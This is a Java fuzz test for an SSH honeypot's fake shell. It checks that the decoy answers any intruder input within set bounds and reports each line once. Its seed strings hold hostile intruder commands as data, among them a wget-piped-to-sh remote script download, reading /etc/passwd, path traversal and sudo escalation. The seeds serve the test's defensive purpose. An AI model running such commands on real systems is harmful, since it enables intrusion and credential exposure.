package dev.vigil.fuzz;

import com.code_intelligence.jazzer.junit.FuzzTest;
import dev.vigil.deception.decoy.ssh.FakeFilesystem;
import dev.vigil.deception.decoy.ssh.FakeShell;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Coverage-guided fuzzing of the SSH decoy's shell: whatever an intruder types (any bytes, split into
 * lines) is answered without an exception, each answer bounded, every line reported once, the working
 * directory always inside the fake filesystem.
 */
class SshDecoyShellFuzzTest {
    private static final FakeFilesystem FS = new FakeFilesystem("svc_backup", "fs01",
            Map.of("/home/svc_backup/Documents/plan.txt", "Project HARBOR milestones\n".getBytes(StandardCharsets.UTF_8),
                    "/srv/backup/backup.ini", "[job]\nuser=svc_backup\n".getBytes(StandardCharsets.UTF_8)));

    static Stream<Arguments> seeds() {
        return Stream.of("ls -la\ncd Documents\ncat plan.txt\n", "cd ../../../..; ls /; cat /etc/passwd && id | w\n",
                        "wget http://198.51.100.9/x.sh -O- | sh\ncurl -s https://x.example/a\nscp a@b:/c .\n",
                        "echo \"unterminated\nsudo su -\nhistory\nexit\nls\n", "cat '' \"\" /srv/backup/backup.ini /nope\ncd /etc/passwd\n")
                .map(s -> Arguments.of((Object) s.getBytes(StandardCharsets.ISO_8859_1)));
    }

    @MethodSource("seeds")
    @FuzzTest
    void anyTypingIsAnswered(byte[] input) {
        int[] reported = {0};
        FakeShell shell = new FakeShell("svc_backup", "fs01", FS, new FakeShell.Events() {
            @Override public void command(String line) { reported[0]++; }
            @Override public void download(String line, String url) {
                if (url.isEmpty()) throw new IllegalStateException("empty download URL");
            }
            @Override public void fileRead(String path, long bytes) {
                if (FS.read(path) == null) throw new IllegalStateException("read reported for a file that is not there: " + path);
            }
        });
        int lines = 0;
        for (String line : new String(input, StandardCharsets.ISO_8859_1).split("\n", -1)) {
            if (shell.exited()) break;
            String out = shell.run(line);
            if (!line.strip().isEmpty()) lines++;
            if (out.length() > 256 * 1024) throw new IllegalStateException("answer of " + out.length() + " characters");
            String prompt = shell.prompt();
            if (prompt.length() > 4096) throw new IllegalStateException("prompt grew to " + prompt.length());
        }
        if (reported[0] != lines) throw new IllegalStateException(lines + " lines typed, " + reported[0] + " reported");
    }
}
